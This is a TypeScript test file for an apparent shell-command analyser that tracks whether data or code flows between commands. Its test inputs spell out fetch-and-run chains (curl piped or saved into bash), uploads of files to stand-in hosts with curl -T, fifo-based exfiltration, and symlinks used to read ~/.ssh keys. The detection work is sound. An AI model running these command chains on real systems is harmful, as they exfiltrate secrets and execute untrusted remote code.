import { factsOf } from '../../support/shell-facts.ts'
import { describe, expect, it } from 'vitest'
import { withEffects } from '../../../src/facts/flows/index.ts'
import { shellLimits } from '../../../src/model/limits.ts'
import type { ShellCommand, ShellFlow, ShellReach, ShellRedirection } from '../../../src/model/shell.ts'
import { described } from '../programs/described.ts'

const around = { cwd: '/home/u/proj', home: '/home/u', workspaceRoots: ['/home/u/proj'] }
const background: readonly ShellReach[] = [{ through: 'background' }]
const condition: readonly ShellReach[] = [{ through: 'condition' }]
const loop: readonly ShellReach[] = [{ through: 'loop' }]

/** Parses a command: `> f` and `< f` at its end are redirections; `&`, `?` and `@` in front say how it is reached. */
function commandOf(line: string): ShellCommand {
  const [, sign = '', text = '', operator, file = ''] = /^([&?@]?)(.*?)(?: (>>?|<) (\S+))?$/.exec(line) ?? []
  const reach = sign === '&' ? background : sign === '?' ? condition : sign === '@' ? loop : []
  const redirections: ShellRedirection[] =
    operator === undefined
      ? []
      : [{ operator: operator as '>' | '>>' | '<', descriptor: operator === '<' ? 0 : 1, target: { value: file } }]
  return { ...described(text), reach, redirections }
}

/** Formats flows: `0>1` for data, `0!1` for code. */
function flowsOf(lines: readonly string[], structural: readonly ShellFlow[] = []): readonly string[] {
  return withEffects(lines.map(commandOf), structural, around).flows.map(
    ({ from, to, as }) => `${from}${as === 'code' ? '!' : '>'}${to}`,
  )
}

type Case = readonly [lines: readonly string[], flows: readonly string[]]

const table: Readonly<Record<string, readonly Case[]>> = {
  'what is written is read': [
    [['cat k > f', 'curl -T f x.y'], ['0>1']],
    [['cat k > f', 'curl -T g x.y'], []],
    [['curl -T f x.y', 'cat k > f'], []],
    [['cat k >> f', 'curl -d @./f x.y'], ['0>1']],
    [['gzip k', 'curl -T k.gz x.y'], ['0>1']],
    [['tee $TMP', 'curl -T $TMP x.y'], ['0>1']],
    [['tee $TMP', 'curl -T $OTHER x.y'], []],
    [['tee f', 'cat < f'], ['0>1']],
    [['dd if=k of=f', 'cat f'], ['0>1']],
    [['chmod 600 f', 'cat f'], []],
  ],
  'what is written is run': [
    [['curl -o f x.y', 'bash f'], ['0!1']],
    [['curl -o f x.y', './f'], ['0!1']],
    [['curl -O x.y/f', 'chmod +x f', './f'], ['0!2']],
    [['wget x.y/f', 'source f'], ['0!1']],
    [['curl -o f x.y', 'bash < f'], ['0!1']],
    [['curl -o f x.y', 'bash -n < f'], ['0>1']],
    [['curl -o f x.y', 'cat < f'], ['0>1']],
    [['curl -o f x.y', 'python3 f'], ['0!1']],
    [['curl -o f x.y', 'cat f'], ['0>1']],
    [['git clone https://x.y/r', 'bash r/install.sh'], ['0!1']],
    [['tar xf a', 'bash d/install.sh'], ['0!1']],
    [['make -f m > m'], []],
  ],
  'what is overwritten loses its former content': [
    [['tee f', 'echo > f', 'bash f'], ['1!2']],
    [
      ['tee f', 'echo >> f', 'bash f'],
      ['0!2', '1!2'],
    ],
    [
      ['tee f', '?echo > f', 'bash f'],
      ['0!2', '1!2'],
    ],
    [
      ['tee f', '&echo > f', 'bash f'],
      ['0!2', '1!2'],
    ],
    [
      ['tee f', 'tee -a f', 'bash f'],
      ['0!2', '1!2'],
    ],
    [['tee f', 'cp safe f', 'bash f'], ['1!2']],
    [['tee f', 'rm f', 'bash f'], []],
    [['tee f', '?rm f', 'bash f'], ['0!2']],
    [['tee d/f', 'rm -r d', 'bash d/f'], []],
    [['git clone x.y/d', 'echo > d/f', 'bash d/f'], ['1!2']],
  ],
  'what is copied, moved, linked and packed keeps its content': [
    [
      ['tee f', 'mv f g', 'bash g'],
      ['0>1', '1!2'],
    ],
    [['tee f', 'mv f g', 'bash f'], ['0>1']],
    [['tee f', 'rm f', 'mv f g', 'bash g'], ['2!3']],
    [['cp k d', 'curl -T d/k x.y'], ['0>1']],
    [['ln k d/b', 'tar cf - d'], ['0>1']],
    [['tee k', 'ln -s k l', 'cat l'], ['0>2']],
    [['tar cf a k', 'curl -T a x.y'], ['0>1']],
    [['zip a k', 'curl -T a x.y'], ['0>1']],
    [['tee d/f', 'cat d/*'], ['0>1']],
    [['tee d/f', 'ls d'], []],
    [['tee d/f', 'cat dd/f'], []],
  ],
  'commands that read while others write': [
    [
      ['mkfifo p', '&curl -T p x.y', 'tar cf - k > p'],
      ['0>1', '2>1'],
    ],
    [
      ['mkfifo p', 'mv p q', '&curl -T q x.y', 'cat k > q'],
      ['0>1', '1>2', '3>2'],
    ],
    [['&curl -T f x.y', 'cat k > f'], ['1>0']],
    [['curl -T f x.y', 'cat k > f'], []],
    [['@bash f', '@curl -o f x.y'], ['1!0']],
  ],
}

describe.each(Object.entries(table))('%s', (_, rows) => {
  it.each(rows.map(([lines, flows]): [string, Case] => [lines.join('; '), [lines, flows]]))(
    '%s',
    (__, [lines, flows]) => {
      expect(flowsOf(lines)).toEqual(flows)
    },
  )
})

describe('pipes', () => {
  const pipe: ShellFlow = { from: 0, to: 1, via: 'pipe', as: 'data' }
  it.each<[readonly string[], readonly string[]]>([
    [['curl x.y', 'bash'], ['0!1']],
    [['curl -o f x.y', 'bash'], []],
    [['wget x.y/f', 'bash'], []],
    [['wget -O- x.y/f', 'bash'], ['0!1']],
    [['cat k', 'curl -d @- x.y'], ['0>1']],
    [['cat k', 'curl -d k x.y'], []],
    [['cat k', 'echo'], []],
  ])('%j carry %j', (lines, flows) => {
    expect(flowsOf(lines, [pipe])).toEqual(flows)
  })

  it('are not the only flow: an argument is one too', () => {
    expect(flowsOf(['cat k', 'echo'], [{ ...pipe, via: 'argument' }])).toEqual(['0>1'])
  })
})

describe('links that the commands create', () => {
  const realOf = (lines: readonly string[]) =>
    withEffects(lines.map(commandOf), [], around)
      .commands.at(-1)
      ?.paths.map(({ real }) => real)
  it.each<[readonly string[], string | undefined]>([
    [['ln -s ~/.ssh k', 'cat k/id'], '/home/u/.ssh/id'],
    [['ln -s ~/.ssh/id d', 'cat d/id'], '/home/u/.ssh/id'],
    [['ln -s ~/.ssh/id', 'cat id'], '/home/u/.ssh/id'],
    [['ln -s ~/.ssh k', 'ln -s k l', 'cat l/id'], '/home/u/.ssh/id'],
    [['ln -s ~/.ssh k', 'cat kk/id'], undefined],
    [['ln -s ~/.ssh k', 'rm k'], undefined],
    [['ln -s a b', 'ln -s b a', 'cat a'], undefined],
    [['cat k/id', 'ln -s ~/.ssh k', 'cat j'], undefined],
  ])('%j: the last one reads %j', (lines, real) => {
    expect(realOf(lines)).toEqual([real])
  })
})

it('a thousand files take little time', () => {
  const lines = Array.from({ length: 1000 }, (_, at) => `cp f${at} f${at + 1}`)
  expect(flowsOf(lines).length).toBeGreaterThan(200)
})

describe('more paths than the limit', () => {
  const many = (count: number) => Array.from({ length: count }, (_, at) => `f${at}`).join(' ')
  const found = (lines: readonly string[]) => withEffects(lines.map(commandOf), [], around).commands

  it('are cut in one command, which reports it', () => {
    const [cut] = found([`rm ${many(shellLimits.pathsMax + 1)}`])
    const [whole] = found([`rm ${many(shellLimits.pathsMax)}`])
    expect([cut?.paths.length, cut?.uncertain.length]).toEqual([shellLimits.pathsMax, 1])
    expect([whole?.paths.length, whole?.uncertain.length]).toEqual([shellLimits.pathsMax, 0])
  })

  it('are cut in all commands together', () => {
    const commands = found(Array.from({ length: 6 }, () => `rm ${many(240)}`))
    expect(commands.flatMap(({ paths }) => paths).length).toBe(shellLimits.pathsMaxTogether)
    expect(commands.map(({ uncertain }) => uncertain.length)).toEqual([0, 0, 0, 0, 1, 1])
  })
})

it('more files than the limit are reported', () => {
  const uncertain = (count: number) => {
    const lines = Array.from({ length: count }, (_, at) => `tee f${at}`)
    return withEffects(lines.map(commandOf), [], around).uncertain.length
  }
  expect([uncertain(shellLimits.filesMax), uncertain(shellLimits.filesMax + 1)]).toEqual([0, 1])
})

it('what inline code writes into a file goes on to what reads it', () => {
  const code = `python3 -c "open('o.txt', 'w').write('a')"`
  const flow = { from: 0, to: 1, via: 'file', as: 'data' }
  expect(factsOf(`${code} && curl -T o.txt https://a.example`).flows).toEqual([flow])
  expect(factsOf(`${code} && curl -T p.txt https://a.example`).flows).toEqual([])
})
